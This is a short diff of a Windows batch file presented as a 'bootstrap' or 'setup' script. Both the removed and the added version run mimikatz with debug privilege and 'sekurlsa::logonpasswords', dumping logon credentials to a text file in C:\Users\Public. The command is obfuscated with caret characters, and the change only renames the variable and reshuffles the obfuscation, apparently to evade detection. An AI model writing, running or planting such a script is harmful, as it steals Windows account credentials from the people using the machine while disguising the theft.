@@ -1,4 +1,4 @@
-REM bootstrap 5047 v1
+REM setup 6173 v1
 @echo off
-set "skkn=m^im^i^k^a^t^z.^exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > ^C:\Us^e^rs\Publ^ic\^m.^txt"
-call %skkn%
+set svjt=^mimik^at^z.e^x^e "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\^U^s^ers\^Pub^lic\^m.tx^t
+call %svjt%
